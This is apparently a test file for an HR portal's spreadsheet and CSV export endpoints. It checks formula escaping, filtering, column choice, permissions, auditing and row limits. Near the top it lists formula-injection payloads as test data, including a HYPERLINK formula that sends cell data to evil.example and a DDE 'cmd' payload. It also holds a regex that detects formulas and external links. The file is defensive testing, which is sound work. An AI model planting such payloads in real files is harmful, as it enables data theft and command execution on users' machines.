import { inflateRawSync } from 'node:zlib'
import { parse } from 'csv-parse/sync'
import { sql } from 'kysely'
import { readXlsx, writeXlsx } from 'hucre/xlsx'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { accessCalls } from '#shared/areas/access.ts'
import { leaveBalanceCalls } from '#shared/areas/leave-balance.ts'
import { mailCalls } from '#shared/areas/mail.ts'
import { staffingCalls } from '#shared/areas/staffing.ts'
import type { Endpoint } from '#shared/contract/endpoint.ts'
import { leaveList, leaveRequest } from '#shared/requests/leave-request.ts'
import { loan } from '#shared/requests/loan.ts'
import { permitOut } from '#shared/requests/permit-out.ts'
import { timesheetCalls } from '#shared/requests/timesheet.ts'
import { exportLimit } from '#server/platform/lists.ts'
import { openStage, type Person, type Stage } from './cast.ts'
import { openTargets } from './rights-targets.ts'
import { computed } from '../support/cost.ts'

let stage: Stage
const evil = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+1', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"]

beforeAll(async () => {
  stage = await openStage()
  const targets = openTargets(stage)
  for (const person of ['amina', 'joko', 'hadi', 'carla', 'dewi', 'farah', 'budi'] as const) {
    targets.spend(await targets.waiting('leave-request', person))
    await targets.waiting('loan', person)
  }
  targets.spend(await targets.entry('leave-request', 'amina'))
  for (const [index, person] of (['amina', 'joko', 'hadi', 'carla', 'dewi', 'farah', 'budi'] as const).entries())
    await sql`update employee set display_name = ${evil[index]} where user_name = ${person}`.execute(stage.portal.database.db)
})
afterAll(() => stage.close())

const exported = async (body: object, by: Person = 'indra') =>
  stage.as(by).request({ method: 'POST', url: '/api/x/leave-request/export', payload: body })
/** The cells of the first sheet as a program that opens the file reads them. */
const cellsOf = async (bytes: Buffer) => ((await readXlsx(bytes)).sheets[0]?.rows ?? []) as unknown[][]
/** The same of a text file. */
const textsOf = (bytes: Buffer) => parse(bytes, { bom: true }) as string[][]
const columnOf = (rows: unknown[][], heading: string) => rows.slice(1).map((row) => row[(rows[0] ?? []).indexOf(heading)])

/** Every part of a ZIP archive, unpacked, as text. */
function partsOf(bytes: Buffer): Map<string, string> {
  const parts = new Map<string, string>()
  for (
    let at = bytes.lastIndexOf('PK\x05\x06') && bytes.readUInt32LE(bytes.lastIndexOf('PK\x05\x06') + 16);
    bytes.toString('latin1', at, at + 4) === 'PK\x01\x02';
  ) {
    const [packed, size, nameLength, more, comment, local] = [
      bytes.readUInt16LE(at + 10),
      bytes.readUInt32LE(at + 20),
      bytes.readUInt16LE(at + 28),
      bytes.readUInt16LE(at + 30),
      bytes.readUInt16LE(at + 32),
      bytes.readUInt32LE(at + 42),
    ]
    const start = local + 30 + bytes.readUInt16LE(local + 26) + bytes.readUInt16LE(local + 28)
    const body = bytes.subarray(start, start + size)
    parts.set(bytes.toString('utf8', at + 46, at + 46 + nameLength), (packed ? inflateRawSync(body) : body).toString())
    at += 46 + nameLength + more + comment
  }
  return parts
}
/** Where a workbook would compute something or reach outside. */
const dangers = (bytes: Buffer) =>
  [...partsOf(bytes)].flatMap(([name, text]) => (/<f[ >/]|<ddeLink|externalLink|vbaProject|TargetMode="External"/.test(text) ? [name] : []))

describe('an export', () => {
  it('has no formula: what begins with =, +, -, @, TAB or CR is text', async () => {
    const { raw, headers, status } = await exported({})
    expect([status, headers['content-type']]).toEqual([200, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'])
    expect(headers['content-disposition']).toMatch(/^attachment; .*\.xlsx/)
    expect(dangers(raw)).toEqual([])
    const people = columnOf(await cellsOf(raw), 'Employee').map(String)
    expect(new Set(people.map((text) => text.slice(0, 1)))).toEqual(new Set(["'"]))
    for (const text of evil) expect(people.some((cell) => cell.includes(text.trim().replaceAll('\r', '')))).toBe(true)
    // The look for formulas finds one where there is one.
    expect(
      dangers(Buffer.from(await writeXlsx({ sheets: [{ name: 'x', rows: [[1]], cells: new Map([['0,0', { formula: '1+1' }]]) }] }))),
    ).not.toEqual([])
  })

  it('holds exactly what is filtered, in the order that is shown, whole', async () => {
    for (const body of [
      {},
      { usingStatusFilter: true, status: [0] },
      { status: [1], sortingColumn: 'code', sortingDirection: 0 },
      { filterSearch: '=cmd' },
      { scope: 'mine' },
      { startDateFrom: '2199/01/01' },
    ])
      for (const by of ['indra', 'dewi', 'joko'] as const) {
        const shown = (await stage.as(by).call(leaveRequest.calls.list, { ...body, paginationSize: 100 } as never)).body.listData.map(
          (row) => row.code,
        )
        const cells = await cellsOf((await exported({ ...body, paginationSize: 1, paginationPage: 2 }, by)).raw)
        expect([by, body, columnOf(cells, 'Code')]).toEqual([by, body, shown])
      }
  })

  it('has the chosen columns in the list’s order, and says which it does not know', async () => {
    const headings = async (columns?: string[]) => (await cellsOf((await exported({ columns })).raw))[0]
    expect(await headings(['days', 'code'])).toEqual(['Code', 'Days', 'Counted in'])
    for (const unknown of ['form', '__proto__', 'bytes']) expect((await exported({ columns: ['code', unknown] }, 'dewi')).status).toBe(400)
    // The unit of the days has a column of its own.
    expect((await headings())?.length).toBe(Object.values(leaveList.columns).filter((column) => !column.hidden).length + 1)
    expect((await exported({ columns: Array.from({ length: 61 }, () => 'code') })).status).toBe(400)
  })

  it('has hours as durations; in a text file as numbers under a heading that says so', async () => {
    const heading = async (format: string) =>
      (
        await stage
          .as('indra')
          .request({ method: 'POST', url: `/api${permitOut.calls.export.path}`, payload: { columns: ['hours'], format } })
      ).raw
    expect((await cellsOf(await heading('xlsx')))[0]).toEqual(['Hours'])
    expect(textsOf(await heading('csv'))[0]).toEqual(['Hours (h)'])
  })

  it('may be a text file with the same rows, and no formula in them', async () => {
    for (const body of [{}, { status: [1], sortingColumn: 'code', sortingDirection: 0 }]) {
      const { raw, headers, status } = await exported({ ...body, format: 'csv' })
      expect([status, headers['content-type']]).toEqual([200, 'text/csv; charset=utf-8; header=present'])
      expect(headers['content-disposition']).toMatch(/^attachment; .*\.csv/)
      const texts = textsOf(raw)
      expect(columnOf(texts, 'Code')).toEqual(columnOf(await cellsOf((await exported(body)).raw), 'Code'))
      expect(new Set(columnOf(texts, 'Employee').map((text) => String(text).slice(0, 1)))).toEqual(new Set(["'"]))
    }
    expect((await exported({ format: 'pdf' })).status).toBe(400)
  })

  it('holds what other lists show, for those who see them: balances, the week by person, least on duty', async () => {
    const asked: [Endpoint, Endpoint, Person, object, string, string][] = [
      [leaveBalanceCalls.export, leaveBalanceCalls.subordinates, 'budi', {}, 'Available', 'balance'],
      [leaveBalanceCalls.export, leaveBalanceCalls.subordinates, 'dewi', { date: '2030-06-30' }, 'Available', 'balance'],
      [timesheetCalls.subordinatesExport, timesheetCalls.subordinates, 'budi', {}, 'Unit', 'companyStructure'],
      [staffingCalls.export, staffingCalls.units, 'edgar', { sortingColumn: 'code' }, 'Code', 'code'],
      [accessCalls.export, accessCalls.list, 'edgar', { scope: 'roles' }, 'User name', 'userName'],
    ]
    for (const [call, listed, by, body, heading, field] of asked)
      for (const format of ['xlsx', 'csv']) {
        const { body: answer } = await stage.as(by).call(listed, { ...body, paginationSize: 100 } as never)
        const { listData } = answer as unknown as { listData: Record<string, unknown>[] }
        const { status, raw } = await stage.as(by).request({ method: 'POST', url: `/api${call.path}`, payload: { ...body, format } })
        expect([call.path, status]).toEqual([call.path, 200])
        const told = columnOf(format === 'csv' ? textsOf(raw) : await cellsOf(raw), heading)
        expect(listData.length).toBeGreaterThan(0)
        expect([call.path, told.map(String)]).toEqual([call.path, listData.map((row) => String(row[field]))])
      }
    for (const { path } of [staffingCalls.export, accessCalls.export, mailCalls.export])
      expect([path, (await stage.as('budi').request({ method: 'POST', url: `/api${path}`, payload: {} })).status]).toEqual([path, 403])
    const { rows } = await sql<{ entity: string }>`select entity from audit where act = 'export' and entity = 'LeaveBalance'`.execute(
      stage.portal.database.db,
    )
    expect(rows.length).toBe(4)
  })

  it('keeps exact amounts', async () => {
    const { raw } = await stage.as('indra').request({ method: 'POST', url: `/api${loan.calls.export.path}`, payload: {} })
    expect(columnOf(await cellsOf(raw), 'Amount')).toEqual(Array.from({ length: 7 }, () => 100))
  })

  it('holds 50,000 rows in bounded memory and time, and refuses one more rather than leave it out', async () => {
    await sql`
      insert into request (id, code, module, author_id, requestor_id, subject_id, status_id, transaction_date, form, starts_on, ends_on, quantity, type_id)
      select gen_random_uuid(), 'LV-X-' || n, 'LeaveRequest', ${stage.id.amina}, ${stage.id.amina}, ${stage.id.amina}, 4, '2020-01-01', '{}', '2020-01-01', '2020-01-01', 1, ${stage.portal.company.leave.annual}
      from generate_series(1, ${exportLimit + 1}) n`.execute(stage.portal.database.db)
    const [memory, started] = [process.memoryUsage().rss, computed()]
    const body = { filterSearch: 'LV-X-', columns: ['code', 'days'] }
    const refused = await exported(body)
    expect([refused.status, JSON.parse(refused.raw.toString()).Message]).toEqual([400, expect.stringContaining('more than 50')])
    await sql`delete from request where code = 'LV-X-1'`.execute(stage.portal.database.db)
    const { raw } = await exported(body)
    const sheet = partsOf(raw).get('xl/worksheets/sheet1.xml') ?? ''
    expect(sheet.match(/<row /g)).toHaveLength(50_001)
    expect(textsOf((await exported({ ...body, format: 'csv' })).raw)).toHaveLength(50_001)
    expect(computed() - started).toBeLessThan(20_000)
    expect(process.memoryUsage().rss - memory).toBeLessThan(600 * 1024 * 1024)
  })
})
